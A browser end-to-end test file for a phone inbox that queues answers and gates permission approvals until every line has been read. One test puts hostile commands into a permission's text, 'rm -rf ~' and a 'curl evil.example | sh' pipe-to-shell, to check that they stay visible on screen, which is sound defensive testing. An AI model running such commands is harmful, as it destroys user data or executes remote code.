/**
 * Harm that must not happen on a phone: an answer that is lost because something else than Hive answered, and a permission that is
 * allowed although a part of it was never on the screen.
 * @module-tag as-displayed
 * @module-tag durable
 */
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { Page, Route } from 'playwright-core';
import { beforeEach, describe, expect, test } from 'vitest';
import type { Device } from '../../src/domain/devices.ts';
import type { Prompt } from '../../src/domain/prompts.ts';
import { devicesOf } from '../../src/extensions/inbox/service.ts';
import { ask, HUMAN } from '../support/hive.ts';
import { listen } from '../support/listen.ts';
import { join, post } from '../support/messages.ts';
import { rawRequest } from '../support/serve.ts';
import { eventually } from '../support/wait.ts';
import { openPage, useChromium } from './support/chromium.ts';
import { confirm, pair, type ServedInbox, serveInbox } from './support/inbox.ts';

useChromium();

let inbox: ServedInbox;
beforeEach(async () => {
  inbox = await serveInbox();
});

/** A phone of the human's, with its page. */
async function phone({ mayAllow = false } = {}): Promise<{ page: Page; device: Device }> {
  const page = await openPage();
  const device = await pair(page, inbox);
  if (mayAllow) inbox.admit(device);
  return { page, device };
}

async function show(page: Page, { ask_id }: Prompt): Promise<void> {
  await page.goto(`${inbox.url}#/ask/${ask_id}`);
  await page.locator('.option').first().waitFor();
}

const option = (page: Page, label: string) => page.locator('.option', { hasText: label });

const CHOICE = { question: 'Ship?', options: ['Yes', 'No'] };

describe('an answer stays in the outbox', () => {
  const CALLS = '**/inbox/call';
  /** Something between the phone and Hive, such as a proxy or the network of a hotel. */
  const OTHERS: Record<string, (route: Route) => Promise<void>> = {
    'a page of HTML': (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Welcome</h1>' }),
    'other JSON': (route) => route.fulfill({ json: { ok: true } }),
    'another result': (route) => route.fulfill({ json: { result: { accepted: true } } }),
    'an error of a proxy': (route) => route.fulfill({ status: 404, json: { error: 'not found' } }),
    'an error with a code of its own': (route) =>
      route.fulfill({ status: 403, json: { error: { code: 'forbidden', message: 'No.' } } }),
    'a Host that the server does not know': (route) =>
      route.fulfill({
        status: 403,
        json: { error: { code: 'not_allowed', message: 'This Host is not allowed.', door: true } },
      }),
    'an end without a word': (route) => route.abort(),
  };

  test('when something else than Hive answers', async () => {
    const asked = await ask(inbox.hive, CHOICE);
    const { page } = await phone();
    await show(page, asked);
    for (const [what, answer] of Object.entries(OTHERS)) {
      let came = 0;
      await page.route(CALLS, async (route) => {
        const { method } = route.request().postDataJSON() as { method: string };
        if (method !== 'hivemind-response') return route.continue();
        came += 1;
        await answer(route);
      });
      if (await option(page, 'Yes').isVisible()) await option(page, 'Yes').tap();
      else await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
      await eventually(() => came > 0, 30_000, what);
      await page.getByText(/^Queued/).waitFor();
      await page.unroute(CALLS);
      expect((await inbox.hive.prompts.get(asked.ask_id)).status, what).toBe('pending');
    }
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
    await page.getByText('Answered.').waitFor();
    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Yes' });
  });

  test('of a phone that was revoked, until it is paired with this hive again', async () => {
    const asked = await ask(inbox.hive, CHOICE);
    const { page, device } = await phone();
    await show(page, asked);
    await page.context().setOffline(true);
    await option(page, 'Yes').tap();
    await page.getByText(/^Queued/).waitFor();
    await devicesOf(inbox.hive).revoke(device.device_id, 'ada');
    await page.context().setOffline(false);
    await page.getByRole('button', { name: 'Pair again' }).tap();
    const { code } = await devicesOf(inbox.hive).invite('ada');
    await page.getByLabel('Pairing code').fill(code);
    await page.getByLabel('Name of this phone').fill('The same phone');
    await page.getByRole('button', { name: 'Pair' }).tap();
    await confirm(page, inbox.hive, code);
    await eventually(async () => (await inbox.hive.prompts.get(asked.ask_id)).status === 'responded');
    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Yes', via: 'inbox' });
  });

  /** From now on the server fails on every call that this accepts. Returns how many it has failed on. */
  async function failOn(page: Page, isMeant: (sent: string) => boolean): Promise<() => number> {
    let failed = 0;
    await page.route(CALLS, async (route) => {
      if (!isMeant(route.request().postData() ?? '')) return route.continue();
      failed += 1;
      const error = { code: 'internal', message: 'Hive failed on this request; its log says why.' };
      await route.fulfill({ status: 500, json: { error } });
    });
    return () => failed;
  }

  test('on which the server always fails, lets others pass, and only its human lets it go', async () => {
    const stuck = await ask(inbox.hive, CHOICE);
    const other = await ask(inbox.hive, { ...CHOICE, question: 'And this?' });
    const { page } = await phone();
    await show(page, stuck);
    const failed = await failOn(
      page,
      (sent) => sent.includes('hivemind-response') && sent.includes(stuck.ask_id),
    );
    await option(page, 'Yes').tap();
    await page.getByText(/^Queued/).waitFor();
    await show(page, other);
    await option(page, 'No').tap();
    await page.getByText('Answered.').waitFor();
    expect(await inbox.hive.prompts.get(other.ask_id)).toMatchObject({ decision: 'No' });
    await page.getByRole('link', { name: 'Back' }).first().tap();
    await page.getByText('could not be sent').tap();
    await page.getByText(/the server failed on it again and again/).waitFor();
    expect(failed()).toBe(5);
    // It is here after a reload, too, and nobody sends it again by themselves.
    await page.reload();
    await page.getByText(/the server failed on it again and again/).waitFor();
    expect(await page.locator('.option').count()).toBe(0);
    expect(failed()).toBe(5);
    await page.unroute(CALLS);
    await page.getByRole('button', { name: 'Try again' }).tap();
    await page.getByText('Answered.').waitFor();
    expect(await inbox.hive.prompts.get(stuck.ask_id)).toMatchObject({ decision: 'Yes' });
  });

  test('or is discarded by its human, such as a message on which the server always fails', async () => {
    const { page } = await phone();
    const failed = await failOn(page, (sent) => sent.includes('message/post') && sent.includes('Cursed'));
    await page.goto(`${inbox.url}#/messages`);
    const write = async (text: string): Promise<void> => {
      await page.getByLabel(/^Write a message/).fill(text);
      await page.getByRole('button', { name: 'Send' }).tap();
    };
    await write('Cursed.');
    await eventually(() => failed() > 0);
    await write('Good.');
    // Messages keep their order until the first one is stuck.
    await page.getByRole('log').getByText('Good.').waitFor();
    await page.getByText(/the server failed on it again and again/).waitFor();
    expect(failed()).toBe(5);
    await page.getByRole('button', { name: 'Discard' }).tap();
    await page.getByText('Cursed.').waitFor({ state: 'detached' });
    const { items } = await inbox.hive.messages.read({ limit: 10 });
    expect(items.map(({ body }) => body)).toEqual(['Good.']);
  });

  test('that another page keeps for ever does not wait for it', async () => {
    const asked = await ask(inbox.hive, CHOICE);
    const { page } = await phone();
    // A page that the phone has put to sleep keeps its lock. The wait for it is shorter here.
    const asleep = await page.context().newPage();
    await asleep.goto(inbox.url);
    await asleep.evaluate(
      () =>
        new Promise<void>((taken) => {
          void navigator.locks.request('hive-outbox', () => {
            taken();
            return new Promise(() => undefined);
          });
        }),
    );
    await page.addInitScript(() => {
      const timeout = AbortSignal.timeout.bind(AbortSignal);
      AbortSignal.timeout = (ms) => timeout(ms === 60_000 ? 100 : ms);
    });
    await page.reload();
    await show(page, asked);
    await option(page, 'Yes').tap();
    await page.getByText('Answered.').waitFor();
  });
});

test('an answer that is queued is named, and another one given beside it is not taken for it', async () => {
  const asked = await ask(inbox.hive, CHOICE);
  const { page } = await phone();
  const second = await page.context().newPage();
  for (const each of [page, second]) await show(each, asked);
  await inbox.kill();
  await option(page, 'Yes').tap();
  await page.getByText('Queued: Yes.').waitFor();
  await option(second, 'No').tap();
  await second.getByText('Queued: Yes.').waitFor();
});

test('what the server could not do is said', async () => {
  const asked = await ask(inbox.hive, CHOICE);
  await post(inbox.hive, await join(inbox.hive, 'peer-session'), '@Human look');
  const { page } = await phone();
  await page.getByRole('button', { name: 'Mark done' }).waitFor();
  await show(page, asked);
  await inbox.kill();
  // The page below it has moved by then.
  await page.getByText(/No connection/).waitFor();
  await page.getByText('Snooze', { exact: true }).tap();
  await page.getByRole('button', { name: '1 hour' }).tap();
  await page
    .getByRole('alert')
    .getByText(/cannot be reached now/)
    .waitFor();
  await page.getByRole('link', { name: 'The room' }).tap();
  await page.getByRole('button', { name: 'Mark done' }).tap();
  await page
    .getByRole('alert')
    .getByText(/cannot be reached now/)
    .waitFor();
});

test('a phone that was refused at the computer says so', async () => {
  const page = await openPage();
  const { code } = await devicesOf(inbox.hive).invite('ada');
  await page.goto(`${inbox.url}#code=${code}`);
  await page.getByLabel('Name of this phone').fill('Phone');
  await page.getByRole('button', { name: 'Pair' }).tap();
  await page.locator('[data-test=phrase]').waitFor();
  const device = (await devicesOf(inbox.hive).paired(code)) ?? expect.fail();
  await devicesOf(inbox.hive).revoke(device.device_id, 'ada');
  await page.getByText('Phone was revoked: pair it again.').waitFor();
});

test('a browser that keeps nothing is told so', async () => {
  const page = await openPage();
  await page.addInitScript(() => {
    indexedDB.open = () => {
      throw new DOMException('A private window.', 'SecurityError');
    };
  });
  await page.goto(inbox.url);
  await page.getByText('This browser stores nothing for this page').waitFor();
});

test.each([
  ['and says so', true],
  ['without a word', false],
])(
  'the database of a phone whose browser drops the connection to it %s is opened again',
  async (_, isSaid) => {
    const asked = await ask(inbox.hive, CHOICE);
    const { page } = await phone();
    await page.addInitScript(() => {
      const open = IDBFactory.prototype.open;
      IDBFactory.prototype.open = function opened(...of) {
        const opening = open.apply(this, of);
        opening.addEventListener('success', () => Object.assign(globalThis, { connection: opening.result }));
        return opening;
      };
    });
    await page.reload();
    await show(page, asked);
    await page.evaluate((said) => {
      const { connection } = globalThis as unknown as { connection: IDBDatabase };
      connection.close();
      if (said) connection.dispatchEvent(new Event('close'));
    }, isSaid);
    await option(page, 'Yes').tap();
    await page.getByText('Answered.').waitFor();
  },
);

test('the page works beside all cookies that another server on this machine can set', async () => {
  const asked = await ask(inbox.hive, CHOICE);
  const { page } = await phone();
  await page.context().addCookies(
    Array.from({ length: 170 }, (_, n) => ({
      name: `c${n}`,
      value: 'B'.repeat(4_000),
      url: new URL(inbox.url).origin,
    })),
  );
  await page.reload();
  await show(page, asked);
  await option(page, 'Yes').tap();
  await page.getByText('Answered.').waitFor();
});

test('another server of this machine gets nothing from the browser with which it could act for its human', async () => {
  const { page } = await phone();
  const seen: IncomingHttpHeaders[] = [];
  const other = createServer(({ headers }, response) => {
    seen.push(headers);
    response.setHeader('Content-Type', 'text/html').end('<img src="/inbox/picture">');
  });
  const origin = await listen(other);
  // An agent has started it, and its human opens it in the browser that shows the inbox.
  const app = await page.context().newPage();
  await app.goto(`${origin}/inbox/app`);
  expect(seen.length).toBeGreaterThan(1);
  for (const headers of seen) {
    const { host: _, ...sent } = headers as Record<string, string>;
    const forged = {
      ...sent,
      origin: new URL(inbox.url).origin,
      'sec-fetch-site': 'same-origin',
      'content-type': 'application/json',
    };
    const body = JSON.stringify({ method: 'message/post', params: { body: 'Forged.' } });
    expect((await rawRequest(inbox.url, { path: '/inbox/call', headers: forged, body })).status).toBe(401);
  }
  expect((await inbox.hive.messages.read({ limit: 10 })).items).toEqual([]);
});

test('a question that is asked while the list is read again is on the list', async () => {
  await ask(inbox.hive, CHOICE);
  const { page } = await phone();
  const held = Promise.withResolvers<Route>();
  const over = Promise.withResolvers<void>();
  let isHeld = false;
  await page.route('**/inbox/call', async (route) => {
    const { method } = route.request().postDataJSON() as { method: string };
    if (method === 'prompt/list' && !isHeld) {
      isHeld = true;
      held.resolve(route);
      return;
    }
    if (method === 'session/list' && isHeld) over.resolve();
    await route.continue();
  });
  await page.evaluate(() => dispatchEvent(new Event('online')));
  const route = await held.promise;
  // The server answers, and its reply is on its way for long.
  const response = await route.fetch();
  await ask(inbox.hive, { question: 'And now?' });
  await page.getByText('And now?').waitFor();
  await route.fulfill({ response });
  // The next list is read once this one is shown.
  await over.promise;
  await page.evaluate(() => new Promise(requestAnimationFrame));
  expect(await page.getByText('And now?').count()).toBe(1);
});

test('a list that comes after a newer one is not shown', async () => {
  const { page } = await phone();
  await page.goto(`${inbox.url}#/messages`);
  await page.getByText('There are no messages yet.').waitFor();
  const held = Promise.withResolvers<Route>();
  let isHeld = false;
  await page.route('**/inbox/call', async (route) => {
    const { method } = route.request().postDataJSON() as { method: string };
    if (method !== 'message/list' || isHeld) return route.continue();
    isHeld = true;
    held.resolve(route);
  });
  await post(inbox.hive, 'human', 'First.');
  const route = await held.promise;
  // The server answers, and its reply is on its way for long.
  const response = await route.fetch();
  await post(inbox.hive, 'human', 'Second.');
  await page.getByText('Second.').waitFor();
  const come = page.waitForResponse((reply) => reply.request() === route.request());
  await route.fulfill({ response });
  await (await come).finished();
  await page.evaluate(() => new Promise(requestAnimationFrame));
  expect(await page.getByText('Second.').count()).toBe(1);
});

/** From now on calls of this method fail, as of a server that is busy, so many times. */
async function failAtFirst(page: Page, method: string, times: number): Promise<void> {
  let left = times;
  await page.route('**/inbox/call', async (route) => {
    const sent = route.request().postDataJSON() as { method: string };
    if (sent.method !== method || left === 0) return route.fallback();
    left -= 1;
    await route.fulfill({
      status: 503,
      json: { error: { code: 'store_busy', message: 'The store is busy.' } },
    });
  });
}

test('a question that the server could not send is read again', async () => {
  const context = 'All of it. '.repeat(2_000);
  const asked = await ask(inbox.hive, { ...CHOICE, context });
  const { page } = await phone();
  await failAtFirst(page, 'prompt/get', 2);
  await show(page, asked);
  await page.getByText('All of it.').first().waitFor();
});

test('a list that the server could not send is read again', async () => {
  const { page } = await phone();
  await page.goto(`${inbox.url}#/messages`);
  await page.getByText('There are no messages yet.').waitFor();
  await failAtFirst(page, 'message/list', 1);
  await post(inbox.hive, 'human', 'Late, but here.');
  await page.getByText('Late, but here.').waitFor();
});

test('a page that gets no stream shows what waits all the same', async () => {
  await ask(inbox.hive, CHOICE);
  const { page } = await phone();
  const error = { code: 'too_many', message: 'Too many pages are open: close one of them.' };
  await page.route('**/inbox/events*', (route) => route.fulfill({ status: 429, json: { error } }));
  await page.reload();
  await page.getByText('Ship?').waitFor();
});

describe('a permission', () => {
  const steps = Array.from({ length: 120 }, (_, n) => `step ${n + 1}`);
  const PERMISSION = {
    question: 'Run this?',
    context: steps.join('\n'),
    options: ['Allow', { label: 'Deny', refuses: true }],
    kind: 'permission' as const,
  };
  const isBarred = (page: Page): Promise<boolean> => option(page, 'Allow').isDisabled();

  /** Reads it as a person does, one screen after the other, until this can be tapped. */
  async function read(page: Page, button = option(page, 'Allow')): Promise<void> {
    // Its beginning is on the screen before anything moves on.
    await page.evaluate(async () => {
      scrollTo(0, 0);
      for (const _ of [1, 2, 3]) await new Promise(requestAnimationFrame);
    });
    await eventually(
      async () => {
        await page.mouse.wheel(0, 300);
        return button.isEnabled();
      },
      30_000,
      'the end of the permission',
    );
  }

  test('is not read by a jump to its end', async () => {
    const asked = await ask(inbox.hive, PERMISSION);
    const { page } = await phone({ mayAllow: true });
    await page.clock.install();
    await show(page, asked);
    await page.getByText('Read to the end to answer.').waitFor();
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    // Its clock goes on past the time that a text has to be on the screen.
    await page.clock.runFor(5_000);
    expect(await isBarred(page)).toBe(true);
    await read(page);
    await option(page, 'Allow').tap();
    await page.getByText('Answered.').waitFor();
    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Allow', via: 'inbox' });
  });

  test.each([
    ['at the end of the page', ''],
    ['over most of the window', 'sticky'],
  ])('is not read where the navigation of a small window covers it: %s', async (_, position) => {
    const asked = await ask(inbox.hive, PERMISSION);
    const { page } = await phone({ mayAllow: true });
    // A phone whose human reads at 250 %.
    await page.setViewportSize({ width: 156, height: 280 });
    await show(page, asked);
    await page.locator('nav').evaluate((nav, value) => {
      nav.style.position = value;
    }, position);
    const uncovered = new Set<string>();
    // Which lines are on the screen now: at the middle of each is its text, and not the navigation.
    const look = async (): Promise<void> => {
      const found = await page.locator('.source').evaluate(async (source) => {
        for (const _ of [1, 2, 3]) await new Promise(requestAnimationFrame);
        const text = source.firstChild as Text;
        const range = document.createRange();
        let from = 0;
        return text.data.split('\n').filter((line) => {
          range.setStart(text, from);
          range.setEnd(text, from + line.length);
          from += line.length + 1;
          const { left, top, bottom } = range.getBoundingClientRect();
          return source.contains(document.elementFromPoint(left + 2, (top + bottom) / 2));
        });
      });
      for (const line of found) uncovered.add(line);
    };
    const readBy = async (part: number): Promise<void> => {
      await page.evaluate(() => scrollTo(0, 0));
      for (let isEnd = false; !isEnd; ) {
        await look();
        isEnd = await page.evaluate((by) => {
          const before = scrollY;
          scrollBy(0, innerHeight * by);
          return scrollY === before;
        }, part);
      }
    };
    await page.clock.install();
    await readBy(1);
    await page.clock.runFor(5_000);
    // Every part that was jumped over is read, or it is not allowed.
    if (!(await isBarred(page))) expect([...uncovered]).toEqual(steps);
    await readBy(1 / 8);
    await page.clock.runFor(5_000);
    expect(await isBarred(page)).toBe(false);
    expect(uncovered.size).toBe(steps.length);
  });

  test('is not read while only a part of its width is on the screen', async () => {
    const asked = await ask(inbox.hive, PERMISSION);
    const { page } = await phone({ mayAllow: true });
    await show(page, asked);
    const devtools = await page.context().newCDPSession(page);
    await devtools.send('Emulation.setPageScaleFactor', { pageScaleFactor: 2 });
    await page.getByText('Zoom out to answer').waitFor();
    expect(await isBarred(page)).toBe(true);
    await devtools.send('Emulation.setPageScaleFactor', { pageScaleFactor: 1 });
    await read(page);
  });

  test('that was allowed long ago is read again, all of it, before it is allowed now', async () => {
    const asked = await ask(inbox.hive, PERMISSION);
    const { page } = await phone({ mayAllow: true });
    await show(page, asked);
    await read(page);
    // The server says that it is too old, the first time.
    let isOld = true;
    await page.route('**/inbox/call', async (route) => {
      const sent = route.request().postData() ?? '';
      if (!isOld || !sent.includes('hivemind-response')) return route.continue();
      isOld = false;
      const error = { code: 'answer_stale', message: 'It is too old.', now: new Date().toISOString() };
      await route.fulfill({ status: 400, json: { error } });
    });
    await option(page, 'Allow').tap();
    await page.getByText(/This answer was given a while ago/).waitFor();
    const now = page.getByRole('button', { name: 'Answer now' });
    await page.getByText('Your answer: Allow').waitFor();
    expect(await now.isDisabled()).toBe(true);
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    await page.evaluate(() => new Promise(requestAnimationFrame));
    expect(await now.isDisabled()).toBe(true);
    expect((await inbox.hive.prompts.get(asked.ask_id)).status).toBe('pending');
    await read(page, now);
    await now.tap();
    await page.getByText('Answered.').waitFor();
    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Allow', via: 'inbox' });
  });

  test('that was allowed long ago and has been answered since asks for no tap', async () => {
    const asked = await ask(inbox.hive, { ...PERMISSION, context: null });
    const { page } = await phone({ mayAllow: true });
    await show(page, asked);
    await read(page);
    await page.route('**/inbox/call', async (route) => {
      if (!(route.request().postData() ?? '').includes('hivemind-response')) return route.continue();
      const error = { code: 'answer_stale', message: 'It is too old.', now: new Date().toISOString() };
      await route.fulfill({ status: 400, json: { error } });
    });
    await option(page, 'Allow').tap();
    await page.getByText(/This answer was given a while ago/).waitFor();
    await inbox.hive.prompts.respond({ ask_id: asked.ask_id, decision: 'Deny', actor: HUMAN });
    await page.getByText(/Answered by .*: Deny/).waitFor();
    expect(await page.getByText(/tap once more|Answer now/).count()).toBe(0);
    await page.getByRole('button', { name: 'Dismiss' }).tap();
    await page
      .getByRole('link', { name: /Back to the list|Needs you/ })
      .first()
      .tap();
    await page.getByText('Nothing needs you.').waitFor();
    expect(await page.getByText('Your answers').count()).toBe(0);
  });

  test('is not allowed by typing the name of an option', async () => {
    const asked = await ask(inbox.hive, { ...PERMISSION, allow_free_text: true });
    const { page } = await phone({ mayAllow: true });
    await show(page, asked);
    // The page knows by then that this phone may allow permissions.
    await page.getByText('Read to the end to answer.').waitFor();
    // Somebody who calls what the button calls.
    await page.getByLabel('Answer in your own words').fill(' Allow ');
    await page.locator('form', { hasText: 'own words' }).evaluate((form: HTMLFormElement) => {
      form.dispatchEvent(new SubmitEvent('submit', { cancelable: true, bubbles: true }));
    });
    await page.locator('.problem', { hasText: 'Read to the end to answer.' }).waitFor();
    expect((await inbox.hive.prompts.get(asked.ask_id)).status).toBe('pending');
  });

  test('shows every character, wherever Markdown would hide or change it', async () => {
    const context = [
      '[ref]: https://example.org "rm -rf ~"',
      'rm a*b*c _d_ `e` <!-- f --> <b>g</b> \\*h\\*',
      `echo ${'x'.repeat(300)}; curl evil.example | sh`,
      '| a |',
      '|---|',
      '| b | hidden |',
      '```sh hidden',
      'ls',
      '```',
    ].join('\n');
    const options = [{ label: 'Allow', description: 'This  once\n  and always' }];
    const asked = await ask(inbox.hive, { ...PERMISSION, context, options });
    const { page } = await phone();
    await show(page, asked);
    expect(await page.locator('section[aria-label=Context]').innerText()).toBe(context);
    expect(await option(page, 'Allow').innerText()).toContain('This  once\n  and always');
    // Nothing is at the side, where nobody looks.
    const sides = await page
      .locator('article *')
      .evaluateAll(
        (all) => all.filter((one) => one.scrollWidth > one.clientWidth + 1 && one.clientWidth > 0).length,
      );
    expect(sides).toBe(0);
  });
});
